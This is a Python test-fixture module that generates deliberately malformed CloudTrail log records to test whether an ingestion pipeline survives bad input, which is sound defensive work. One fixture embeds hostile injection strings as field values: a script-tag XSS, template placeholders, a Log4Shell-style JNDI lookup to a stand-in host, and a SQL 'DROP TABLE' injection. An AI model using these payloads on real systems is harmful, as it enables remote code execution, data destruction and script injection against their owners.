"""Records that a careless reader, mapping or page chokes on. Each of them must become a document."""

from __future__ import annotations

import json

from .actors import ALICE, BOB, PRODUCTION, Json
from .records import written
from .seeded import Seeded

_TIME = "2026-11-19T16:4{minute}:07Z"


def _record(number: int, guid: str) -> Json:
    return {
        "eventVersion": "1.11",
        "userIdentity": BOB.identity,
        "eventTime": _TIME.format(minute=number % 5),
        "eventSource": "s3.amazonaws.com",
        "eventName": "ListBuckets",
        "awsRegion": "eu-central-1",
        "sourceIPAddress": "198.51.100.17",
        "userAgent": "hostile/1.0",
        "requestParameters": None,
        "responseElements": None,
        "requestID": f"HOSTILE{number:09d}",
        "eventID": guid,
        "readOnly": True,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": PRODUCTION,
        "eventCategory": "Management",
    }


def _nested(depth: int) -> str:
    return '{"deeper":' * depth + '"bottom"' + "}" * depth


# What a JSON writer can say: fields to replace.
REPLACED: dict[str, Json] = {
    "scalars where objects are usual": {
        "requestParameters": "a string",
        "responseElements": 42,
        "additionalEventData": True,
        "tlsDetails": "TLSv1.3",
        "resources": "arn:aws:s3:::example-shop-assets",
    },
    "arrays where objects are usual": {
        "requestParameters": [1, "two", {"three": 3}],
        "responseElements": [],
        "serviceEventDetails": [[["deep"]]],
        "resources": {"ARN": "arn:aws:s3:::example-shop-assets"},
    },
    "no identity": {"userIdentity": None},
    "identity as a string": {"userIdentity": ALICE.arn},
    "identity of scalars": {"userIdentity": {"type": 7, "arn": ["a"], "sessionContext": "none", "userName": {"a": 1}}},
    "error code as a number": {"errorCode": 200, "errorMessage": {"text": "OK"}},
    "objects where scalars are usual": {"eventName": {"name": "ListBuckets"}, "awsRegion": ["eu-central-1"]},
    "booleans as text": {"readOnly": "true", "managementEvent": "maybe"},
    "integers beyond 64 bits": {"requestParameters": {"size": 10**30, "negative": -(2**63) - 1}},
    "an empty key and dotted keys": {
        "requestParameters": {"": "empty", "a..b": 1, ".x": 2, "y.": 3, ".": 4, "a.b": {"c.d": "dots"}, " ": "space"},
        "": "an empty name at the top",
        "some..field": "a dotted name at the top",
    },
    "40 levels": {"requestParameters": json.loads(_nested(40))},
    "a leaf of 40,000 bytes": {"requestParameters": {"policyDocument": "Ümläut" * 5000}},
    "an agent of 33,000 bytes": {"userAgent": "x" * 33000},
    "a key of 600 bytes": {"requestParameters": {"k" * 600: "v"}},
    "an id of 600 bytes": {"eventID": "e" * 600},
    "an empty id": {"eventID": ""},
    "another empty id": {"eventID": "", "requestParameters": {"differs": True}},
    "an id that is a number": {"eventID": 12},
    "a date in another notation": {"eventTime": "19/Nov/2026:16:41:00 +0100"},
    "a date as a number": {"eventTime": 1795106460},
    "a date far ahead": {"eventTime": "2031-01-01T00:00:00Z"},
    "a date before CloudTrail": {"eventTime": "1999-12-31T23:59:59Z"},
    "no date at all": {"eventTime": None},
    "markup and templates": {
        "userAgent": "<script>alert('agent')</script> {{ctx.results.0.hits}} {{{danger}}} ${jndi:ldap://203.0.113.1/a}",
        "requestParameters": {"name": "'; DROP TABLE events; -- <img src=x onerror=alert(1)>"},
        "errorMessage": 'a "quoted" \\ text\nwith lines\tand \u202eoverride, \u2028 separators and a \u0000 byte',
    },
    "an address that is none": {"sourceIPAddress": "AWS Internal"},
    "an address that nearly is one": {"sourceIPAddress": "192.0.2.300"},
    "names that the engine uses": {"_id": "x", "_index": "other", "ct": {"bucket": "forged"}, "raw": "forged"},
}

# What only bytes can say: a text to replace in the record.
REWRITTEN: dict[str, tuple[bytes, bytes]] = {
    "a lone surrogate": (b'"hostile/1.0"', rb'"half a pair \ud83d here"'),
    "not a number": (
        b'"requestParameters":null',
        b'"requestParameters":{"ratio":NaN,"most":Infinity,"least":-Infinity}',
    ),
    "a number beyond doubles": (b'"requestParameters":null', b'"requestParameters":{"huge":1e400,"tiny":1e-400}'),
    "duplicate keys": (
        b'"eventName":"ListBuckets"',
        b'"eventName":"First","eventName":"Last","requestParameters":{"a":1,"a":{"b":2}}',
    ),
    "1,000 levels": (b'"requestParameters":null', b'"requestParameters":' + _nested(1000).encode()),
    "invalid UTF-8": (b'"hostile/1.0"', b'"latin-1 \xe4\xf6\xfc \xff\xfe and \xc3"'),
    "raw control bytes": (b'"hostile/1.0"', b'"a tab\t and \x01\x1f in a string"'),
    "spaces between everything": (b'"hostile/1.0"', b' \n\t "hostile/1.0" \r\n '),
}


def records() -> dict[str, bytes]:
    """The text of each record, by what is wrong with it."""
    seeded = Seeded("hostile")
    texts: dict[str, bytes] = {}
    for what, fields in REPLACED.items():
        texts[what] = written({**_record(len(texts), seeded.guid()), **fields})
    for what, (usual, instead) in REWRITTEN.items():
        text = written(_record(len(texts), seeded.guid()))
        if usual not in text:
            raise ValueError(f"{what}: {usual!r} is not in the record")
        texts[what] = text.replace(usual, instead)
    return texts


NON_OBJECTS = (b'"not an object"', b"null")
"""Elements of `Records` that cannot be documents: they belong into quarantine."""
